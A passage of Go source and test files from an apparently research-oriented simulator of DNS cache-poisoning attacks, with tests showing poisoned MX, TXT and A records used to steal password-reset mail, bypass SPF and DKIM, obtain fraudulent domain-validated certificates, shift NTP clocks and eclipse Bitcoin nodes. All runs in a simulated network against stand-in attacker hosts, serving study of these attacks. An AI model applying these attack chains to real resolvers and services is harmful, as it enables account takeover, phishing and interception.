		}},
		{"campaign_lattice", func(t *testing.T) string {
			res, err := goldenLattice()
			if err != nil {
				t.Fatal(err)
			}
			return campaign.Lattice(res).String()
		}},
	}
	for _, a := range artifacts {
		a := a
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			got := a.render(t)
			if got == "" {
				t.Fatal("artifact rendered empty")
			}
			path := filepath.Join("testdata", "golden", a.name+".txt")
			if *update {
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("missing golden file (run `go test -run TestGoldenArtifacts -update .`): %v", err)
			}
			if got != string(want) {
				t.Fatalf("%s drifted from golden file %s\n--- got\n%s\n--- want\n%s",
					a.name, path, got, want)
			}
		})
	}
}
