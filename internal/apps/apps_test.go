package apps_test

import (
	"net/netip"
	"testing"
	"time"

	"crosslayer/internal/apps"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/scenario"
)

// poison plants a malicious record in the victim resolver's cache,
// standing in for a successful §3 methodology (the chains themselves
// are tested in internal/core).
func poison(s *scenario.S, name string, typ dnswire.Type, rrs ...*dnswire.RR) {
	s.Resolver.Cache.Put(name, typ, rrs)
	s.Resolver.Cache.MarkPoisoned(name, typ)
}

func poisonA(s *scenario.S, name string) {
	poison(s, name, dnswire.TypeA, dnswire.NewA(name, 300, scenario.AttackerIP))
}

// --- SMTP / anti-spam ---

func TestSMTPBounceStealsMailViaPoisonedMX(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 61})
	ms := apps.NewMailServer(s.ServiceHost, scenario.ResolverIP, "victim-net.example.")
	sink := apps.NewMailSink(s.Attacker)

	// Normal: bounce to vict.im goes to the genuine mail host.
	genuine := apps.NewMailSink(s.MailHost)
	var out apps.Outcome
	ms.Deliver(apps.Mail{From: "alice@vict.im", To: "ghost@victim-net.example.", Body: "secret", SenderIP: scenario.VictimMail}, func(o apps.Outcome) { out = o })
	s.Run()
	if out != apps.OutcomeOK || len(genuine.Received) != 1 || len(sink.Received) != 0 {
		t.Fatalf("normal bounce: out=%v genuine=%d sink=%d", out, len(genuine.Received), len(sink.Received))
	}

	// Poison vict.im MX -> mail.atk.example (resolved via atk zone).
	poison(s, "vict.im.", dnswire.TypeMX, dnswire.NewMX("vict.im.", 300, 5, "mail.atk.example."))
	ms.Deliver(apps.Mail{From: "alice@vict.im", To: "ghost@victim-net.example.", Body: "password reset link", SenderIP: scenario.VictimMail}, func(apps.Outcome) {})
	s.Run()
	if len(sink.Received) != 1 {
		t.Fatalf("attacker received %d bounces, want 1", len(sink.Received))
	}
}

func TestSPFDowngradeViaPoisonedTXT(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 62})
	ms := apps.NewMailServer(s.ServiceHost, scenario.ResolverIP, "victim-net.example.")
	ms.LocalUsers["bob"] = true

	// Normal: mail claiming to be from vict.im but sent from the
	// attacker IP fails SPF (policy allows only 123.0.0.0/22).
	ms.Deliver(apps.Mail{From: "ceo@vict.im", To: "bob@victim-net.example.", Body: "wire money", SenderIP: scenario.AttackerIP}, nil)
	s.Run()
	if len(ms.Spam) != 1 || len(ms.Inbox) != 0 {
		t.Fatalf("SPF did not reject spoofed mail: spam=%d inbox=%d", len(ms.Spam), len(ms.Inbox))
	}

	// Attack 1: poison the SPF TXT with an attacker-friendly policy.
	poison(s, "vict.im.", dnswire.TypeTXT, dnswire.NewTXT("vict.im.", 300, "v=spf1 ip4:6.6.6.0/24 -all"))
	ms.Deliver(apps.Mail{From: "ceo@vict.im", To: "bob@victim-net.example.", Body: "wire money v2", SenderIP: scenario.AttackerIP}, nil)
	s.Run()
	if len(ms.Inbox) != 1 {
		t.Fatalf("poisoned SPF should let phishing through: inbox=%d", len(ms.Inbox))
	}
}

func TestSPFFailOpenWhenLookupBlocked(t *testing.T) {
	// Attack 2 (downgrade by DoS): NXDOMAIN-poisoning the TXT makes
	// the server fail open.
	s := scenario.New(scenario.Config{Seed: 63})
	ms := apps.NewMailServer(s.ServiceHost, scenario.ResolverIP, "victim-net.example.")
	ms.LocalUsers["bob"] = true
	s.Resolver.Cache.PutNegative("vict.im.", dnswire.TypeTXT, 300)
	ms.Deliver(apps.Mail{From: "ceo@vict.im", To: "bob@victim-net.example.", Body: "attach.exe", SenderIP: scenario.AttackerIP}, func(apps.Outcome) {})
	s.Run()
	if len(ms.Inbox) != 1 || ms.SPFFailedOpen != 1 {
		t.Fatalf("fail-open downgrade: inbox=%d failedOpen=%d", len(ms.Inbox), ms.SPFFailedOpen)
	}
}

func TestDKIMDowngrade(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 64})
	ms := apps.NewMailServer(s.ServiceHost, scenario.ResolverIP, "victim-net.example.")
	ms.LocalUsers["bob"] = true
	// Signed mail with a key that does NOT match the published DKIM
	// record: rejected normally.
	m := apps.Mail{From: "ceo@vict.im", To: "bob@victim-net.example.", Body: "x",
		SenderIP: scenario.VictimMail, DKIMSignedBy: "vict.im.", DKIMValidKey: "ATTACKERKEY"}
	ms.Deliver(m, nil)
	s.Run()
	if len(ms.Spam) != 1 {
		t.Fatalf("bad DKIM signature accepted: spam=%d", len(ms.Spam))
	}
	// Poisoned key record makes the attacker's signature "valid".
	poison(s, "sel1._domainkey.vict.im.", dnswire.TypeTXT,
		dnswire.NewTXT("sel1._domainkey.vict.im.", 300, "v=DKIM1; p=ATTACKERKEY"))
	ms.Deliver(m, nil)
	s.Run()
	if len(ms.Inbox) != 1 {
		t.Fatalf("poisoned DKIM key not accepted: inbox=%d", len(ms.Inbox))
	}
}

// --- Web / proxy / password recovery ---

func TestWebHijackPlainHTTP(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 65})
	apps.NewWebServer(s.WWWHost, apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA}).Pages["/"] = "genuine"
	apps.NewWebServer(s.Attacker, apps.SelfSigned("www.vict.im.")).Pages["/"] = "evil"
	wc := &apps.WebClient{Host: s.ClientHost, ResolverAddr: scenario.ResolverIP}
	var res apps.FetchResult
	wc.Get("www.vict.im.", "/", func(r apps.FetchResult) { res = r })
	s.Run()
	if res.Err != nil || res.Body != "genuine" {
		t.Fatalf("normal fetch: %+v", res)
	}
	poisonA(s, "www.vict.im.")
	wc.Get("www.vict.im.", "/", func(r apps.FetchResult) { res = r })
	s.Run()
	if res.Body != "evil" || res.ServerAddr != scenario.AttackerIP {
		t.Fatalf("plain-HTTP hijack failed: %+v", res)
	}
}

func TestWebTLSBlocksHijackUntilFraudulentCert(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 66})
	evil := apps.NewWebServer(s.Attacker, apps.SelfSigned("www.vict.im."))
	evil.Pages["/"] = "evil"
	wc := &apps.WebClient{Host: s.ClientHost, ResolverAddr: scenario.ResolverIP, VerifyTLS: true}
	poisonA(s, "www.vict.im.")
	var res apps.FetchResult
	wc.Get("www.vict.im.", "/", func(r apps.FetchResult) { res = r })
	s.Run()
	if res.Err == nil {
		t.Fatal("TLS client accepted self-signed impersonation")
	}
	// Now the attacker obtains a fraudulent certificate via the DV
	// attack (tested below) and impersonation becomes invisible.
	evil.Ident = apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA}
	wc.Get("www.vict.im.", "/", func(r apps.FetchResult) { res = r })
	s.Run()
	if res.Err != nil || res.Body != "evil" {
		t.Fatalf("fraudulent cert should enable silent hijack: %+v", res)
	}
}

func TestProxyTriggersQueriesOnItsResolver(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 67})
	apps.NewWebServer(s.WWWHost, apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA}).Pages["/"] = "page"
	p := apps.NewProxy(s.ServiceHost, scenario.ResolverIP)
	before := s.Resolver.ClientQueries
	var res apps.FetchResult
	p.Fetch("www.vict.im.", "/", func(r apps.FetchResult) { res = r })
	s.Run()
	if res.Err != nil || res.Body != "page" {
		t.Fatalf("proxied fetch: %+v", res)
	}
	if s.Resolver.ClientQueries == before {
		t.Fatal("proxy did not trigger a resolver query")
	}
}

func TestPasswordRecoveryAccountTakeover(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 68})
	apps.NewMailSink(s.MailHost)
	sink := apps.NewMailSink(s.Attacker)
	pr := &apps.PasswordRecovery{Host: s.ServiceHost, ResolverAddr: scenario.ResolverIP, ServiceName: "rir.example."}
	var to netip.Addr
	pr.Recover("lir-admin@vict.im", "TOKEN-1", func(addr netip.Addr, err error) { to = addr })
	s.Run()
	if to != scenario.VictimMail {
		t.Fatalf("normal recovery went to %v", to)
	}
	poison(s, "vict.im.", dnswire.TypeMX, dnswire.NewMX("vict.im.", 300, 5, "mail.atk.example."))
	pr.Recover("lir-admin@vict.im", "TOKEN-2", func(addr netip.Addr, err error) { to = addr })
	s.Run()
	if to != scenario.AttackerIP {
		t.Fatalf("poisoned recovery went to %v", to)
	}
	if len(sink.Received) != 1 {
		t.Fatal("attacker did not capture the reset token")
	}
}

// --- NTP ---

func TestNTPTimeShift(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 69})
	apps.NewNTPServer(s.WWWHost, 0)                    // honest ntp.vict.im
	apps.NewNTPServer(s.Attacker, 10*365*24*time.Hour) // attacker: +10 years
	c := apps.NewNTPClient(s.ClientHost, scenario.ResolverIP, "ntp.vict.im.")
	var out apps.Outcome
	c.SyncOnce(func(o apps.Outcome) { out = o })
	s.Run()
	if out != apps.OutcomeOK || c.Syncs != 1 {
		t.Fatalf("normal sync: %v syncs=%d", out, c.Syncs)
	}
	poisonA(s, "ntp.vict.im.")
	c.SyncOnce(func(o apps.Outcome) { out = o })
	s.Run()
	if out != apps.OutcomeHijack {
		t.Fatalf("poisoned sync outcome = %v, want hijack", out)
	}
	if c.ClockOffset < 9*365*24*time.Hour {
		t.Fatalf("clock not shifted: %v", c.ClockOffset)
	}
}

// --- RADIUS / XMPP ---

func TestRadiusDoS(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 70})
	apps.NewFederationServer(s.WWWHost, apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA})
	apps.NewFederationServer(s.Attacker, apps.SelfSigned("www.vict.im."))
	rc := &apps.RadiusClient{Host: s.ServiceHost, ResolverAddr: scenario.ResolverIP}
	var out apps.Outcome
	rc.Authenticate("student@vict.im", func(o apps.Outcome) { out = o })
	s.Run()
	if out != apps.OutcomeOK {
		t.Fatalf("normal eduroam auth: %v", out)
	}
	// Poison the discovery A record: the attacker cannot present a
	// valid certificate, so the student simply cannot log in.
	poisonA(s, "www.vict.im.")
	rc.Authenticate("student@vict.im", func(o apps.Outcome) { out = o })
	s.Run()
	if out != apps.OutcomeDoS || rc.AuthFailures != 1 {
		t.Fatalf("poisoned eduroam auth = %v failures=%d, want DoS", out, rc.AuthFailures)
	}
}

func TestXMPPEavesdropping(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 71})
	apps.NewFederationServer(s.WWWHost, apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA})
	evil := apps.NewFederationServer(s.Attacker, apps.SelfSigned("www.vict.im."))
	xp := &apps.XMPPServerPeer{Host: s.ServiceHost, ResolverAddr: scenario.ResolverIP}
	var at netip.Addr
	xp.SendMessage("friend@vict.im", "hello", func(o apps.Outcome, addr netip.Addr) { at = addr })
	s.Run()
	if at != scenario.VictimWWW {
		t.Fatalf("normal federation went to %v", at)
	}
	poisonA(s, "www.vict.im.")
	xp.SendMessage("friend@vict.im", "my secret", func(o apps.Outcome, addr netip.Addr) { at = addr })
	s.Run()
	if at != scenario.AttackerIP || len(evil.Transcript) != 1 {
		t.Fatalf("eavesdropping failed: at=%v transcript=%d", at, len(evil.Transcript))
	}
}

// --- VPN ---

func TestVPNDoSAndOpportunisticIPsecHijack(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 72})
	apps.NewVPNServer(s.WWWHost, apps.Identity{Subject: "vpn.vict.im.", Issuer: apps.TrustedCA})
	apps.NewVPNServer(s.Attacker, apps.SelfSigned("vpn.vict.im."))
	vc := &apps.VPNClient{Host: s.ClientHost, ResolverAddr: scenario.ResolverIP, Gateway: "vpn.vict.im."}
	var out apps.Outcome
	vc.Connect(func(o apps.Outcome) { out = o })
	s.Run()
	if out != apps.OutcomeOK {
		t.Fatalf("normal VPN connect: %v", out)
	}
	poisonA(s, "vpn.vict.im.")
	vc.Connect(func(o apps.Outcome) { out = o })
	s.Run()
	if out != apps.OutcomeDoS {
		t.Fatalf("poisoned VPN connect = %v, want DoS (cert mismatch)", out)
	}

	// Opportunistic IPsec has no cert check: a poisoned IPSECKEY is a
	// silent eavesdropping hijack.
	s.VictimZone.Add(&dnswire.RR{
		Name: "peer.vict.im.", Type: dnswire.TypeIPSECKEY, Class: dnswire.ClassIN, TTL: 300,
		Data: &dnswire.IPSECKEYData{Precedence: 10, GatewayType: 1, Algorithm: 2,
			GatewayIP: scenario.VictimWWW, PublicKey: []byte("GENUINE")},
	})
	oi := &apps.OpportunisticIPsec{Host: s.ClientHost, ResolverAddr: scenario.ResolverIP}
	var cfg apps.PeerConfig
	oi.Discover("peer.vict.im.", func(c apps.PeerConfig, err error) { cfg = c })
	s.Run()
	if cfg.Gateway != scenario.VictimWWW {
		t.Fatalf("normal IPSECKEY gateway %v", cfg.Gateway)
	}
	poison(s, "peer.vict.im.", dnswire.TypeIPSECKEY, &dnswire.RR{
		Name: "peer.vict.im.", Type: dnswire.TypeIPSECKEY, Class: dnswire.ClassIN, TTL: 300,
		Data: &dnswire.IPSECKEYData{Precedence: 10, GatewayType: 1, Algorithm: 2,
			GatewayIP: scenario.AttackerIP, PublicKey: []byte("EVIL")},
	})
	oi.Discover("peer.vict.im.", func(c apps.PeerConfig, err error) { cfg = c })
	s.Run()
	if cfg.Gateway != scenario.AttackerIP || string(cfg.Key) != "EVIL" {
		t.Fatalf("poisoned IPSECKEY not adopted: %+v", cfg)
	}
}

// --- Bitcoin ---

func TestBitcoinEclipse(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 73})
	apps.NewBitcoinNode(s.WWWHost, "block-800000-genuine")
	apps.NewBitcoinNode(s.Attacker, "block-799000-fake")
	bc := &apps.BitcoinClient{Host: s.ClientHost, ResolverAddr: scenario.ResolverIP, SeedName: "seed.vict.im."}
	bc.Bootstrap(func(apps.Outcome) {})
	s.Run()
	if bc.AdoptedTip != "block-800000-genuine" {
		t.Fatalf("normal bootstrap adopted %q", bc.AdoptedTip)
	}
	poisonA(s, "seed.vict.im.")
	bc2 := &apps.BitcoinClient{Host: s.ClientHost, ResolverAddr: scenario.ResolverIP, SeedName: "seed.vict.im."}
	bc2.Bootstrap(func(apps.Outcome) {})
	s.Run()
	if !bc2.Eclipsed("block-799000-fake") {
		t.Fatalf("eclipse failed: adopted %q", bc2.AdoptedTip)
	}
}

// --- PKI: DV and OCSP ---

func TestFraudulentCertificateViaPoisonedCAResolver(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 74})
	apps.NewWebServer(s.WWWHost, apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA})
	evil := apps.NewWebServer(s.Attacker, apps.SelfSigned("attacker"))
	evil.Pages["/.well-known/acme"] = "token-ATTACK"
	ca := &apps.CertificateAuthority{Host: s.ServiceHost, ResolverAddr: scenario.ResolverIP}

	// Without poisoning the CA validates against the genuine host and
	// refuses (the attacker's token is not there).
	var issueErr error
	ca.RequestCertificate("www.vict.im.", "token-ATTACK", func(_ apps.Identity, err error) { issueErr = err })
	s.Run()
	if issueErr == nil {
		t.Fatal("CA issued without control of the domain")
	}
	// Poison the CA's resolver: DV now runs against the attacker.
	poisonA(s, "www.vict.im.")
	var cert apps.Identity
	ca.RequestCertificate("www.vict.im.", "token-ATTACK", func(id apps.Identity, err error) { cert, issueErr = id, err })
	s.Run()
	if issueErr != nil {
		t.Fatalf("DV attack failed: %v", issueErr)
	}
	if cert.VerifyFor("www.vict.im.") != nil {
		t.Fatal("fraudulent certificate does not verify — it should (that is the problem)")
	}
}

func TestOCSPSoftFailDowngrade(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 75})
	responder := apps.NewOCSPResponder(s.WWWHost)
	revoked := apps.Identity{Subject: "compromised.vict.im.", Issuer: apps.TrustedCA}
	responder.Revoked["compromised.vict.im."] = true
	oc := &apps.OCSPClient{Host: s.ClientHost, ResolverAddr: scenario.ResolverIP, ResponderName: "ocsp.vict.im."}
	var accept bool
	var out apps.Outcome
	oc.CheckRevocation(revoked, func(a bool, o apps.Outcome) { accept, out = a, o })
	s.Run()
	if accept {
		t.Fatal("revoked certificate accepted with working OCSP")
	}
	// Poison the responder name to a black hole (attacker IP with no
	// OCSP service): soft-fail accepts the revoked certificate.
	poisonA(s, "ocsp.vict.im.")
	oc.CheckRevocation(revoked, func(a bool, o apps.Outcome) { accept, out = a, o })
	s.Run()
	if !accept || out != apps.OutcomeDowngrade {
		t.Fatalf("soft-fail downgrade: accept=%v out=%v", accept, out)
	}
}

// --- Middleboxes (Table 2) ---

func TestMiddleboxTimerRefresh(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 76})
	apps.NewWebServer(s.WWWHost, apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA}).Pages["/"] = "backend"
	prof := apps.Table2Profiles()[0] // pfSense, 500s timer
	mb := apps.NewMiddlebox(s.ServiceHost, scenario.ResolverIP, prof, "www.vict.im.")
	mb.Start()
	s.Clock.RunUntil(1600 * time.Second)
	if mb.Refreshes < 3 || mb.Refreshes > 5 {
		t.Fatalf("timer refreshes = %d over 1600s at 500s period", mb.Refreshes)
	}
	if mb.Backend != scenario.VictimWWW {
		t.Fatalf("backend = %v", mb.Backend)
	}
}

func TestMiddleboxOnDemandIsAttackerTriggerable(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 77})
	apps.NewWebServer(s.WWWHost, apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA}).Pages["/"] = "backend"
	apps.NewWebServer(s.Attacker, apps.SelfSigned("cdn")).Pages["/"] = "evil-backend"
	prof := apps.Table2Profiles()[6] // AWS CDN, on-demand
	mb := apps.NewMiddlebox(s.ServiceHost, scenario.ResolverIP, prof, "www.vict.im.")
	var res apps.FetchResult
	mb.HandleClientRequest("/", func(r apps.FetchResult) { res = r })
	s.Run()
	if res.ServerAddr != scenario.VictimWWW {
		t.Fatalf("CDN forwarded to %v", res.ServerAddr)
	}
	// After the record TTL expires and the cache is poisoned, the next
	// client request re-resolves and reaches the attacker: on-demand
	// devices hand the attacker the query trigger.
	s.Clock.RunUntil(s.Clock.Now() + 301*time.Second)
	poisonA(s, "www.vict.im.")
	mb.HandleClientRequest("/", func(r apps.FetchResult) { res = r })
	s.Run()
	if res.ServerAddr != scenario.AttackerIP {
		t.Fatalf("poisoned CDN forwarded to %v", res.ServerAddr)
	}
}

func TestTable2ProfilesComplete(t *testing.T) {
	profs := apps.Table2Profiles()
	if len(profs) != 12 {
		t.Fatalf("Table 2 has %d rows, want 12", len(profs))
	}
	var onDemand, timer int
	for _, p := range profs {
		switch p.Trigger {
		case apps.TriggerOnDemand:
			onDemand++
		case apps.TriggerTimer:
			timer++
		}
	}
	if onDemand != 6 || timer != 6 {
		t.Fatalf("trigger split %d/%d, want 6/6", onDemand, timer)
	}
}

// --- Identity primitives ---

func TestIdentityVerification(t *testing.T) {
	good := apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA}
	if err := good.VerifyFor("WWW.VICT.IM"); err != nil {
		t.Fatalf("case-insensitive subject match failed: %v", err)
	}
	if err := apps.SelfSigned("www.vict.im.").VerifyFor("www.vict.im."); err == nil {
		t.Fatal("self-signed accepted")
	}
	if err := good.VerifyFor("other.example."); err == nil {
		t.Fatal("wrong subject accepted")
	}
}
