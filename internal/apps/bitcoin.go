package apps

import (
	"fmt"
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
)

// BitcoinPort is the peer-to-peer port.
const BitcoinPort = 8333

// BitcoinNode serves a chain tip to connecting peers; an attacker node
// serves a fake chain ("Hijack: fake blockchain", Table 1).
type BitcoinNode struct {
	Host     *netsim.Host
	ChainTip string
	Peers    uint64
}

// NewBitcoinNode binds a P2P endpoint on host.
func NewBitcoinNode(host *netsim.Host, chainTip string) *BitcoinNode {
	n := &BitcoinNode{Host: host, ChainTip: chainTip}
	host.BindTCP(BitcoinPort, func(_ netip.Addr, req []byte) []byte {
		n.Peers++
		return []byte("tip=" + n.ChainTip)
	})
	return n
}

// BitcoinClient bootstraps by resolving hard-coded DNS seeds ("known"
// query name, trigger by waiting for a node restart) and adopts the
// chain tip the majority of its peers report. If every A record of
// the seed is poisoned, all peers are the attacker's and the node is
// eclipsed onto a fake chain.
type BitcoinClient struct {
	Host         *netsim.Host
	ResolverAddr netip.Addr
	SeedName     string

	AdoptedTip string
	PeerAddrs  []netip.Addr
}

// Bootstrap resolves the seed and syncs with up to 8 peers.
func (bc *BitcoinClient) Bootstrap(cb func(Outcome)) {
	seed := dnswire.CanonicalName(bc.SeedName)
	resolver.StubLookup(bc.Host, bc.ResolverAddr, seed, dnswire.TypeA, 8*time.Second,
		func(rrs []*dnswire.RR, err error) {
			if err != nil || len(rrs) == 0 {
				cb(OutcomeDoS)
				return
			}
			var addrs []netip.Addr
			for _, rr := range rrs {
				if a, ok := rr.Data.(*dnswire.AData); ok {
					addrs = append(addrs, a.Addr)
				}
				if len(addrs) == 8 {
					break
				}
			}
			bc.PeerAddrs = addrs
			tips := map[string]int{}
			remaining := len(addrs)
			for _, addr := range addrs {
				bc.Host.CallTCP(addr, BitcoinPort, []byte("getheaders"), func(resp []byte) {
					remaining--
					if resp != nil {
						tips[string(resp)]++
					}
					if remaining == 0 {
						bc.finish(tips, cb)
					}
				})
			}
			if len(addrs) == 0 {
				cb(OutcomeDoS)
			}
		})
}

func (bc *BitcoinClient) finish(tips map[string]int, cb func(Outcome)) {
	best, n := "", 0
	for tip, c := range tips {
		if c > n {
			best, n = tip, c
		}
	}
	if best == "" {
		cb(OutcomeDoS)
		return
	}
	bc.AdoptedTip = trimPrefix(best, "tip=")
	cb(OutcomeOK)
}

func trimPrefix(s, p string) string {
	if len(s) >= len(p) && s[:len(p)] == p {
		return s[len(p):]
	}
	return s
}

// Eclipsed reports whether the node's view of the chain matches the
// attacker's fake tip.
func (bc *BitcoinClient) Eclipsed(fakeTip string) bool { return bc.AdoptedTip == fakeTip }

var _ = fmt.Sprintf // keep fmt for future diagnostics
