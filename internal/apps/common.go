// Package apps implements the application victims of Table 1:
// miniature but protocol-faithful clients and servers that use DNS the
// way the paper describes (location, federation, authorisation) and
// act on the answers — accepting mail, setting clocks, opening
// tunnels, issuing certificates, validating route origins. Each
// exposes the observable outcome the cross-layer attacks subvert:
// hijack (traffic reaches the attacker), downgrade (a security check
// silently stops happening), or DoS (the service becomes unusable).
package apps

import (
	"fmt"
	"net/netip"
	"strings"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
)

// Identity is a minimal certificate stand-in: who a server claims to
// be and who vouches for it. Clients compare Subject to the name they
// dialled and require Issuer == TrustedCA. The PKI/DV attack closes
// the loop: a fraudulently issued Identity carries the victim Subject
// with the trusted Issuer, making impersonation invisible.
type Identity struct {
	Subject string
	Issuer  string
}

// TrustedCA is the one certificate authority every client trusts.
const TrustedCA = "TrustedCA"

// SelfSigned builds the identity an attacker can always mint.
func SelfSigned(subject string) Identity {
	return Identity{Subject: subject, Issuer: "self"}
}

// VerifyFor checks the identity against an expected server name.
func (id Identity) VerifyFor(name string) error {
	if id.Issuer != TrustedCA {
		return fmt.Errorf("apps: certificate for %q not signed by a trusted CA (issuer %q)", id.Subject, id.Issuer)
	}
	if !dnswire.EqualNames(id.Subject, name) {
		return fmt.Errorf("apps: certificate subject %q does not match %q", id.Subject, name)
	}
	return nil
}

// Outcome classifies what an attack achieved against an application —
// the right-most column of Table 1.
type Outcome string

// Outcome values.
const (
	OutcomeOK        Outcome = "ok"        // application behaved correctly
	OutcomeHijack    Outcome = "hijack"    // traffic reached the attacker
	OutcomeDowngrade Outcome = "downgrade" // a security check was skipped/fooled
	OutcomeDoS       Outcome = "dos"       // the service became unusable
)

// lookupA resolves name to its first A address through the given
// resolver and host.
func lookupA(h *netsim.Host, resolverAddr netip.Addr, name string, cb func(netip.Addr, error)) {
	resolver.StubLookup(h, resolverAddr, name, dnswire.TypeA, 8*time.Second,
		func(rrs []*dnswire.RR, err error) {
			if err != nil {
				cb(netip.Addr{}, err)
				return
			}
			for _, rr := range rrs {
				if a, ok := rr.Data.(*dnswire.AData); ok {
					cb(a.Addr, nil)
					return
				}
			}
			cb(netip.Addr{}, resolver.ErrNoData)
		})
}

// lookupTXT resolves the TXT strings at name.
func lookupTXT(h *netsim.Host, resolverAddr netip.Addr, name string, cb func([]string, error)) {
	resolver.StubLookup(h, resolverAddr, name, dnswire.TypeTXT, 8*time.Second,
		func(rrs []*dnswire.RR, err error) {
			if err != nil {
				cb(nil, err)
				return
			}
			var out []string
			for _, rr := range rrs {
				if t, ok := rr.Data.(*dnswire.TXTData); ok {
					out = append(out, t.Joined())
				}
			}
			cb(out, nil)
		})
}

// hostsEqual treats addresses as the same service endpoint.
func hostsEqual(a, b netip.Addr) bool { return a == b }

// domainOf extracts the domain part of user@domain.
func domainOf(address string) (string, error) {
	i := strings.LastIndexByte(address, '@')
	if i < 0 || i == len(address)-1 {
		return "", fmt.Errorf("apps: address %q has no domain part", address)
	}
	return dnswire.CanonicalName(address[i+1:]), nil
}
