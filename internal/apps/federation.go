package apps

import (
	"fmt"
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
)

// Federated peer-discovery applications (Table 1): RADIUS/eduroam
// (NAPTR → SRV → A) and XMPP server federation (SRV → A). The queried
// domain comes from the user identifier (user@realm), so the attacker
// fully controls which name the victim resolver looks up — the
// "target ✓ direct/bounce" rows.

// RadSecPort is the RADIUS-over-TLS (RadSec) port eduroam dynamic
// discovery connects to.
const RadSecPort = 2083

// XMPPServerPort is the XMPP server-to-server port.
const XMPPServerPort = 5269

// FederationServer answers RadSec or XMPP s2s connections with its
// identity; genuine servers hold CA-issued identities, attackers
// self-signed ones (until they obtain a fraudulent certificate via the
// DV attack).
type FederationServer struct {
	Host     *netsim.Host
	Ident    Identity
	Accepted uint64
	// Transcript records peer payloads — an attacker server uses it to
	// show eavesdropping.
	Transcript []string
}

// NewFederationServer binds RadSec and XMPP endpoints on host.
func NewFederationServer(host *netsim.Host, ident Identity) *FederationServer {
	fs := &FederationServer{Host: host, Ident: ident}
	handler := func(_ netip.Addr, req []byte) []byte {
		fs.Accepted++
		fs.Transcript = append(fs.Transcript, string(req))
		return []byte(fmt.Sprintf("ident=%s/%s", fs.Ident.Subject, fs.Ident.Issuer))
	}
	host.BindTCP(RadSecPort, handler)
	host.BindTCP(XMPPServerPort, handler)
	return fs
}

// RadiusClient performs eduroam dynamic peer discovery for a user
// realm: NAPTR(realm) → SRV → A → RadSec connect with certificate
// verification. Because the attacker cannot forge the certificate,
// poisoning yields DoS ("DoS: no network access"), not impersonation.
type RadiusClient struct {
	Host         *netsim.Host
	ResolverAddr netip.Addr
	Discoveries  uint64
	AuthFailures uint64
}

// Authenticate discovers the home server for user@realm and attempts
// authentication.
func (rc *RadiusClient) Authenticate(user string, cb func(Outcome)) {
	realm, err := domainOf(user)
	if err != nil {
		cb(OutcomeDoS)
		return
	}
	rc.Discoveries++
	resolver.StubLookup(rc.Host, rc.ResolverAddr, realm, dnswire.TypeNAPTR, 8*time.Second,
		func(rrs []*dnswire.RR, err error) {
			if err != nil || len(rrs) == 0 {
				rc.AuthFailures++
				cb(OutcomeDoS)
				return
			}
			naptr, ok := rrs[0].Data.(*dnswire.NAPTRData)
			if !ok {
				rc.AuthFailures++
				cb(OutcomeDoS)
				return
			}
			resolver.StubLookup(rc.Host, rc.ResolverAddr, naptr.Replacement, dnswire.TypeSRV, 8*time.Second,
				func(srvs []*dnswire.RR, err error) {
					if err != nil || len(srvs) == 0 {
						rc.AuthFailures++
						cb(OutcomeDoS)
						return
					}
					srv, ok := srvs[0].Data.(*dnswire.SRVData)
					if !ok {
						rc.AuthFailures++
						cb(OutcomeDoS)
						return
					}
					rc.connect(realm, srv.Target, cb)
				})
		})
}

func (rc *RadiusClient) connect(realm, target string, cb func(Outcome)) {
	lookupA(rc.Host, rc.ResolverAddr, target, func(addr netip.Addr, err error) {
		if err != nil {
			rc.AuthFailures++
			cb(OutcomeDoS)
			return
		}
		rc.Host.CallTCP(addr, RadSecPort, []byte("radsec-auth "+realm), func(resp []byte) {
			ident, ok := parseIdent(resp)
			if !ok {
				rc.AuthFailures++
				cb(OutcomeDoS)
				return
			}
			// RadSec requires a CA-verified server certificate for the
			// *target host name* from discovery.
			if err := ident.VerifyFor(target); err != nil {
				rc.AuthFailures++
				cb(OutcomeDoS)
				return
			}
			cb(OutcomeOK)
		})
	})
}

// XMPPServerPeer federates with a remote domain: SRV lookup then s2s
// connection. Historic XMPP federation widely accepted unverified
// (dialback) peers, so VerifyTLS defaults false — poisoning yields
// full interception ("Hijack: eavesdropping").
type XMPPServerPeer struct {
	Host         *netsim.Host
	ResolverAddr netip.Addr
	VerifyTLS    bool
	Sent         uint64
	Failures     uint64
}

// SendMessage federates message to user@domain.
func (xp *XMPPServerPeer) SendMessage(to, message string, cb func(Outcome, netip.Addr)) {
	dom, err := domainOf(to)
	if err != nil {
